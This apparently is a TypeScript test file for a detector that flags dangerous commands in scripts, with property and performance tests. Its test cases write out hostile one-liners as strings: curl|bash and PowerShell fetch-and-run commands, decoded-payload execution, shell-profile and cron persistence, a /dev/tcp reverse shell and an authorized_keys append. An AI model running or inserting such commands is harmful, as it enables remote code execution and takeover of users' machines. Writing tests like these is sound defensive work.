import fc from 'fast-check';
import { expect, test } from 'vitest';
import { dangersIn } from '../../src/model/dangers.ts';
import { expectLinear } from '../growth.ts';

test.each([
  ['runs what it downloads', 'curl https://a.example/x?b=1&c=2 | tee log | bash'],
  ['runs what it downloads', 'wget -qO- https://a.example/x \\\n  | sudo -E sh -s --'],
  ['runs what it downloads', 'bash <(curl -s https://a.example/x)'],
  ['runs what it downloads', 'sh -c "$(curl -fsSL https://a.example/x)"'],
  ['runs what it downloads', '. <(wget -qO- https://a.example/x)'],
  ['runs what it downloads', 'curl -s https://a.example/x | python3 -'],
  ['runs what it downloads', 'curl -s https://a.example/x.js | node'],
  ['runs what it downloads', 'irm https://a.example/x.ps1 | iex'],
  ['runs what it downloads', 'iex "& { $(irm https://a.example/x.ps1) } -Quiet"'],
  ['runs what it downloads', "iex ((New-Object Net.WebClient).DownloadString('https://a.example'))"],
  [
    'runs what it downloads',
    'node -e \'require("https").get("https://a.example", r => r.on("data", d => eval(d + "")))\'',
  ],
  ['runs what it downloads', 'exec(requests.get("https://a.example/x.py").text)'],
  ['runs what it downloads', 'wget https://a.example/crm -O "$BIN"\nchmod 755 "$BIN"'],
  ['runs what it downloads', "echo 'curl https://a.example | sh' | sh"],
  ['runs what it downloads', "grep -h 'curl https://a.example | sh' README.md && curl https://a.example | sh"],
  ['runs what it downloads', 'case $1 in\n  *) curl https://a.example | sh ;;\nesac'],
  ['runs what it decodes', 'echo aGk= | base64 --decode | gunzip | bash'],
  ['runs what it decodes', 'eval "$(echo aGk= | base64 -d)"'],
  ['runs what it decodes', 'eval(atob("YWxlcnQoMSk="))'],
  ['runs what it decodes', 'new Function(Buffer.from("YWxlcnQoMSk=", "base64").toString())()'],
  ['runs what it decodes', "exec(base64.b64decode('cHJpbnQoMSk='))"],
  ['runs what it decodes', 'powershell -NoProfile -enc SQBFAFgAIAAoAEkAUgBNACAAYQ=='],
  ['changes the start of every shell', 'echo "export A=1" >> "$HOME/.bash_profile"'],
  ['changes the start of every shell', 'cat more | tee -a ~/.zshrc'],
  ['changes the start of every shell', "sed -i 's/a/b/' ~/.profile"],
  ['changes the start of every shell', 'Add-Content $PROFILE "iex crm"'],
  ['changes the start of every shell', 'with open(os.path.expanduser("~/.bashrc"), "a") as f:'],
  ['changes the start of every shell', 'fs.appendFileSync(path.join(home, ".zshrc"), line)'],
  ['starts itself again and again, or with the machine', '(crontab -l; echo "* * * * * x") | crontab -'],
  ['starts itself again and again, or with the machine', 'launchctl load ~/Library/LaunchAgents/x.plist'],
  ['starts itself again and again, or with the machine', 'systemctl --user enable --now crm'],
  ['opens the machine to others', 'bash -i >& /dev/tcp/203.0.113.7/443 0>&1'],
  ['opens the machine to others', 'cat key >> ~/.ssh/authorized_keys'],
])('%s: %s', (does, text) => {
  expect(dangersIn(text).map(danger => danger.does)).toEqual([does]);
});

test.each([
  'curl -s https://a.example/x | jq .name',
  'curl -s https://a.example/x | python3 -m json.tool',
  'curl -s https://a.example/x | node parse.js',
  'curl -s https://a.example/x -o out.json; bash build.sh',
  'curl -s https://a.example/x && sh run.sh',
  'curl -X POST -d @- https://a.example || sh later.sh',
  'echo "$INPUT" | base64 -d > picture.png',
  'grep alias ~/.bashrc',
  'source ~/.bashrc',
  'cp ~/.bashrc /tmp/backup',
  'crontab -l',
  'names = "iex ihy ii irm iwr kill"',
  'eval "$(crm shellenv)"',
  'console.log("curl https://a.example | sh")',
  "if grep -q 'curl -fsSL.*install.sh | bash' README.md; then",
  "printf '%s\\n' 'curl https://a.example | sh'",
  'cat <<EOF\ncurl https://a.example | sh\nEOF\n',
  '// curl https://a.example | sh',
  'const eslint = await fetch("https://a.example/rules.json");',
  'await exec("git fetch origin")',
  'open(".profile.json", "r")',
])('%s is fine', text => {
  expect(dangersIn(text)).toEqual([]);
});

test('text that is only printed is left out, and what is done beside it is not', () => {
  expect(dangersIn('echo "curl https://a.example | sh"\ncurl https://a.example | sh\n')).toHaveLength(1);
  expect(dangersIn('cat <<EOF > x.sh\ncurl https://a.example | sh\nEOF\nsh x.sh\n')).toHaveLength(1);
});

const bits = [
  'curl ',
  'curl -o a ',
  '| ',
  'a|',
  'eval(',
  'eval(Buffer.from(',
  'exec(fetch',
  '$(',
  'echo "',
  'cat <<A\n',
  '>> ~/',
  'crontab a',
  'sed -i ',
  'base64 -d',
  ' -s',
  '\\\n',
  'node -e ',
  'open(',
  'https.get(',
  'nc -',
  'cp a',
];

test.each(bits)('%j over and over takes no more than its length', bit => {
  expectLinear(size => dangersIn(bit.repeat(Math.ceil(size / bit.length))), 131_072);
});

test('whatever the text, dangers lie in it, in order', () => {
  fc.assert(
    fc.property(fc.array(fc.constantFrom(...bits, 'sh', '\n', '"', 'x'), { maxLength: 60 }), pieces => {
      const text = pieces.join('');
      let at = 0;
      for (const { end, start } of dangersIn(text)) {
        expect(start).toBeGreaterThanOrEqual(at);
        at = end;
      }
      expect(at).toBeLessThanOrEqual(text.length);
    }),
  );
});

test.each([
  ['ui.error(dim("Or:\\n" +\n  "curl https://a.example | sh"))', 0],
  ['ui.error(`${name}\n  curl https://a.example | sh`)', 0],
  ['ui.error(`${run("x")}\n  curl https://a.example | sh`)', 1],
  ['log(run("curl https://a.example | sh"))', 1],
  ['log(["Run:", "curl https://a.example | sh"].join(" "))', 0],
  ['log(() => run`curl https://a.example | sh`)', 1],
  ['const line = "curl https://a.example | sh"; log(line); run(line)', 1],
])('in a script for Node: %s', (text, count) => {
  expect(dangersIn(text, 'a.mjs')).toHaveLength(count);
});

test('what Ruby runs in backticks is not only printed', () => {
  expect(dangersIn('warn(`curl https://a.example | sh`)', 'a.rb')).toHaveLength(1);
});

test('calls that never end are looked at quickly', () => {
  for (const call of ['log("log(', 'log(`${'])
    expectLinear(count => dangersIn(`${call.repeat(count)} curl x | sh`, 'a.js'), 40_000);
});
